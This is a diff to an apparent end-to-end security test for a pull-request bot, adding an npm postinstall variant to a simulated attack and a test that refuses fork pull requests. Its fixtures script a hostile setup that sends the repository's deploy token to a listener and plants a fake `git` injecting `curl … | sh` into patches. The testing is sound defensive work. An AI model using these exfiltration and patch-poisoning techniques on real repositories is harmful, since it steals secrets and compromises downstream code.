@@ -1,7 +1,8 @@
 """The attack of issue 11: a pull request's setup goes for the secret and poisons the cache.
 
 A writer opens a pull request whose branch changes what setup runs (the script the config
-calls, or AGENTS.md's setup block): it sends the repository's secret to a listener on the
+calls, AGENTS.md's setup block, or the `postinstall` script that `auto_install`'s `npm ci`
+runs from package.json): it sends the repository's secret to a listener on the
 host and plants a `git` that adds a `curl … | sh` line to every patch. Then a task runs on
 the pull request, and a later task on the default branch. Judged by outcomes: the listener
 hears only the default branch's own canary, never the secret, and the later task's patch
@@ -12,6 +13,8 @@ from __future__ import annotations
 
 import asyncio
 import ipaddress
+import json
+import time
 from collections.abc import AsyncIterator
 from pathlib import Path
 
@@ -22,6 +25,8 @@ import pytest_asyncio
 
 from bot import task_page
 from forge.server import Forge
+from runner.labels import OWNER as OWNER_LABEL
+from runner.labels import TASK, deployment_owner
 from runner.task import TaskState
 from tests.bot.conftest import OWNER, REPO, WRITER, Gantry
 from tests.e2e.conftest import (
@@ -34,6 +39,7 @@ from tests.e2e.conftest import (
 from tests.support import TEST_BASE_IMAGE
 
 SECRET_VALUE = "deploy-token-5f0c1e"
+FORK = "mallory/hello"
 AGENT = "printf 'fixed: %s\\n' \"$GANTRY_PROMPT\" > fix.txt"
 # One line (AGENTS.md blocks are run line by line): a `git` first in PATH that taints patches.
 PLANT_GIT = (
@@ -53,9 +59,31 @@ def hostile(host: str, port: int) -> str:
     return f"{send(host, port, 'LEAK $DEPLOY_TOKEN')}\n{PLANT_GIT}\necho hostile-setup-ran\n"
 
 
-def config(setup: str | None) -> str:
+# The agents image has node and npm; `npm ci` of a package without dependencies needs no
+# network, and runs the package's own `postinstall` script.
+NODE_IMAGE = "gantry-agents:ci"
+LOCKFILE = {
+    "name": "hello",
+    "version": "1.0.0",
+    "lockfileVersion": 3,
+    "requires": True,
+    "packages": {"": {"name": "hello", "version": "1.0.0"}},
+}
+
+
+def node_package(postinstall: str) -> dict[str, str]:
+    """A package that auto_install calls `npm ci` for, whose postinstall runs `postinstall`."""
+    package = {"name": "hello", "version": "1.0.0", "scripts": {"postinstall": postinstall}}
+    return {
+        "package.json": json.dumps(package, indent=2) + "\n",
+        "package-lock.json": json.dumps(LOCKFILE, indent=2) + "\n",
+        ".npmrc": "audit=false\nfund=false\nupdate-notifier=false\n",
+    }
+
+
+def config(setup: str | None, image: str = TEST_BASE_IMAGE) -> str:
     lines = [
-        f"image: {TEST_BASE_IMAGE}",
+        f"image: {image}",
         "agent:",
         "  command: |",
         f"    {AGENT}",
@@ -118,7 +146,7 @@ def secrets_file(tmp_path: Path) -> Path:
     return path
 
 
-@pytest.mark.parametrize("where", ["setup script", "AGENTS.md setup"])
+@pytest.mark.parametrize("where", ["setup script", "AGENTS.md setup", "auto_install"])
 async def test_a_pull_requests_setup_never_meets_the_secret_or_the_next_task(
     forge: Forge, tmp_path: Path, listener: tuple[Listener, str, int], where: str
 ) -> None:
@@ -127,9 +155,14 @@ async def test_a_pull_requests_setup_never_meets_the_secret_or_the_next_task(
     if where == "setup script":
         files = {".github/gantry.yml": config("sh setup.sh"), "setup.sh": canary + "\n"}
         theirs = {"setup.sh": hostile(host, port)}
-    else:
+    elif where == "AGENTS.md setup":
         files = {".github/gantry.yml": config(None), "AGENTS.md": agents_with_setup(canary)}
         theirs = {"AGENTS.md": agents_with_setup(hostile(host, port))}
+    else:
+        # No setup anywhere: auto_install finds package-lock.json and runs `npm ci`, with the
+        # secrets, which runs whatever package.json's postinstall says.
+        files = {".github/gantry.yml": config(None, NODE_IMAGE), **node_package(canary)}
+        theirs = node_package(hostile(host, port))
     files["old.txt"] = "old\n"
     async with running_gantry(forge, tmp_path, files, secrets_file=secrets_file(tmp_path)) as live:
         await attack(live, theirs)
@@ -188,3 +221,50 @@ async def test_a_failed_setups_log_stays_off_github_but_on_the_task_page(
         ):
             assert response.status == 200
             assert hexed in await response.text()
+
+
+async def test_a_mention_on_a_fork_pull_request_starts_nothing_and_says_why(
+    forge: Forge, tmp_path: Path, docker_client: docker.DockerClient
+) -> None:
+    since = int(time.time()) - 1
+    files = {".github/gantry.yml": config(None), "AGENTS.md": AGENTS, "old.txt": "old\n"}
+    secrets = secrets_file(tmp_path)
+    async with running_gantry(forge, tmp_path, files, secrets_file=secrets) as live:
+        # The fork's branch; the stand-in shows its head as mallory/hello's.
+        await forge.commit_files(OWNER, REPO, "patch-1", {"setup.sh": "echo from the fork\n"})
+        fork = forge.open_pull(OWNER, REPO, "patch-1", user=WRITER, head_repo=FORK)
+        number = fork.issue.number
+        payload = live.examples("issue_comment")[0]
+        payload["issue"]["pull_request"] = {"url": "rewritten"}
+        payload["comment"]["id"] = forge.add_comment(OWNER, REPO, number, "@gantry tidy up", WRITER)
+        delivery = live.delivery("issue_comment", payload, body="@gantry tidy up", number=number)
+        assert await live.post(delivery) == (200, {"outcome": "refused"})
+        await live.settle()
+        store = live.services.store
+        assert await store.thread_tasks(f"{OWNER}/{REPO}", number) == []
+        replies = [
+            c["body"] for c in forge.comments(OWNER, REPO, number) if c["user"] == "gantry[bot]"
+        ]
+        assert len(replies) == 1
+        assert "pull requests from forks" in replies[0]
+        assert f"Push the branch to {OWNER}/{REPO} itself" in replies[0]
+        # Control: a mention on the issue does start this deployment's containers.
+        await comment_on(live, live.issue_number, "@gantry fix the flaky date test")
+        [task] = await wait_final(live, 1)
+        log = task_page.log_path(live.settings.data_dir, task.id).read_text()
+        assert task.state is TaskState.SUCCEEDED, log
+        owner = deployment_owner(live.settings.effective_database_url)
+    created = await asyncio.to_thread(containers_created, docker_client, owner, since)
+    assert created, "the watch saw none of this deployment's containers"
+    assert {labels.get(TASK) for labels in created} == {str(task.id)}
+
+
+def containers_created(client: docker.DockerClient, owner: str, since: int) -> list[dict[str, str]]:
+    """The labels of every container a deployment created from `since` until now."""
+    events = client.events(
+        since=since,
+        until=int(time.time()) + 1,
+        filters={"type": "container", "event": "create", "label": f"{OWNER_LABEL}={owner}"},
+        decode=True,
+    )
+    return [dict(event["Actor"]["Attributes"]) for event in events]
